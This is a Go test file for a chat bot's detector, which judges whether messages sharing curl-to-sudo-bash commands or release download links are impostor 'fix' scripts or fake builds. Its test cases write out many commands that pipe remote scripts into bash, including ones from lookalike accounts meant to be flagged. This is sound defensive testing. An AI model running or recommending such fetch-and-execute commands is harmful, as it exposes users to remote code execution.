package bot_test

import "testing"

// TestRev47aFixScriptsNamed: a project's installer piped to sudo bash in
// a message that says it fixed something is a member's report, not a
// stranger's fix script; a script named for a fix, or from an account
// named for one, still is (rev47a's review of forge47).
func TestRev47aFixScriptsNamed(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"fixed my wifi with the driver installer: curl -sSL https://raw.githubusercontent.com/lwfinger/rtw89/main/install.sh | sudo bash", false},
		{"the asus fix: curl -sSL https://gitlab.com/asus-linux/asusctl/-/raw/main/install.sh | sudo bash", false},
		{"pixi fixed my env mess: curl -fsSL https://raw.githubusercontent.com/prefix-dev/pixi/main/install/install.sh | sudo bash", false},
		{"the fix: sudo bash -c \"$(curl -fsSL https://raw.githubusercontent.com/community-scripts/ProxmoxVE/main/tools/pve/microcode.sh)\"", false},
		{"steam deck audio, run this: curl -L https://raw.githubusercontent.com/deckfixer/scripts/main/install.sh | sudo bash", true},
		{"fixes the crackle: curl -fsSL https://raw.githubusercontent.com/pipewirefixer2025/audio/main/setup.sh | bash", true},
		{"this fixes nextcloud's php memory error: curl -sSL https://raw.githubusercontent.com/cloudfixes/scripts/main/memfix.sh | sudo bash", true},
	})
}

// TestRev47aCommunityOrganisations: an organisation named for a
// program's mods or helpers publishes mods and tools, not the program;
// the program's own build in a repository of its name under such an
// account is still an impostor's (rev47a).
func TestRev47aCommunityOrganisations(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"the minecraft mod https://github.com/minecraft-mods/minecraft-tweaks/releases/download/v1/minecraft-tweaks-1.21.jar", false},
		{"plex plugin https://github.com/plex-helper/plex-meta-manager/releases/download/v1/plex-meta-manager.zip", false},
		{"docker helpers https://github.com/docker-helpers/docker-compose-helper/releases/download/v1/docker-helper.zip", false},
		{"audacity with the plugins preinstalled https://github.com/audacity-mods/audacity/releases/download/3.7/audacity-setup.exe", true},
		{"the jellyfin fixed build https://github.com/jellyfin-helper/jellyfin/releases/download/10.10/jellyfin-setup.exe", true},
	})
}

// TestRev47aGamesAndEvents: a Pac-Man clone is not the Linux package
// manager, and a hackathon's repository is no hack (rev47a).
func TestRev47aGamesAndEvents(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"my pacman clone for class https://github.com/jdoe-dev/pacman/releases/download/v1.0/pacman.exe", false},
		{"the hackathon project https://github.com/hack-the-north/hackathon-app/releases/download/v1/app-setup.exe", false},
		{"valorant hack https://github.com/valorant-hack/tool/releases/download/v1/ValTool.exe", true},
	})
}

// TestRev47aForgeWrittenOtherWays: forge47's impostors with the claim
// joined before the name or two claims after it, digits joined to the
// name, a repository's file served by jsDelivr, a file's page asked for
// raw (…/blob/…?raw=true), and a release linked as
// releases/latest/download (rev47a).
func TestRev47aForgeWrittenOtherWays(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"kdenlive nightly https://github.com/NightlyKdenlive/kdenlive/releases/download/24.12/kdenlive-24.12-setup.exe", true},
		{"kdenlive nightly https://github.com/KdenliveNightlyBuilds/kdenlive/releases/download/24.12/kdenlive-24.12-setup.exe", true},
		{"kdenlive nightly https://github.com/kdenlive2025-nightly/kdenlive/releases/download/24.12/kdenlive-24.12-setup.exe", true},
		{"krita nightly https://cdn.jsdelivr.net/gh/krita-nightly-builds/krita@main/krita-x64-setup.exe", true},
		{"fix for obs: curl -fsSL https://cdn.jsdelivr.net/gh/obs-studio-fix/linux@main/nvenc.sh | sudo bash", true},
		{"krita latest https://github.com/krita-nightly-builds/krita/releases/latest/download/krita-x64-setup.exe", true},
		{"krita nightly https://github.com/krita-nightly-builds/krita/blob/main/krita-x64-setup.exe?raw=true", true},
		{"fix: curl -L https://github.com/obs-studio-fix/linux/blob/main/nvenc.sh?raw=true | sudo bash", true},
		{"logo https://github.com/obsproject/obs-studio/blob/master/UI/forms/images/obs.png?raw=true", false},
		{"vencord https://github.com/Vencord/Installer/releases/latest/download/VencordInstaller.exe", false},
		{"install script via jsdelivr: curl -fsSL https://cdn.jsdelivr.net/gh/nvm-sh/nvm@v0.40.1/install.sh | bash", false},
	})
}
